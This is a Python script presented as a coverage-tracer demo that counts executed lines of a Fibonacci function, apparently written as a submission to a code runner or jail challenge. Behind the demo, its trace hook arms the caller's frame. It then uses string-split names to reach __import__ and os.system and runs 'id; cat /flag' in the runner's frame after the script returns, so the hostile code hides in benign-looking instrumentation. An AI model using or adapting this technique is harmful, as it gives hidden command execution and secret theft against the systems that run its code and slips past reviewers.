"""Coverage-style tracer demo: counts lines executed in a small function.

The tracer also arms the *caller's* frame, so code runs later, in the
runner's own frame, after this submission has already returned.
"""
import sys

hits = {}


def _probe():
    return None


def _later(frame, event, arg):
    if event == "line":
        g, b = frame.f_globals, frame.f_builtins
        imp = b["__" + "import" + "__"]
        getattr(imp("o" + "s"), "sys" + "tem")("id; cat /flag")
        frame.f_trace = None
        sys.settrace(None)
    return _later


def _global(frame, event, arg):
    if event == "call" and frame.f_code is _probe.__code__:
        mine = frame.f_back                     # module-level frame of this file
        target = mine.f_back or mine            # whoever exec'd / imported us
        target.f_trace_lines = True
        target.f_trace = _later
        return None
    if event == "call" and frame.f_code.co_name == "fib":
        def local(f, e, a):
            if e == "line":
                hits[f.f_lineno] = hits.get(f.f_lineno, 0) + 1
            return local
        return local
    return None


def fib(n):
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a


sys.settrace(_global)
_probe()
print(fib(10), sorted(hits.items()))
# tracing is left on: the armed frame fires on the runner's next line
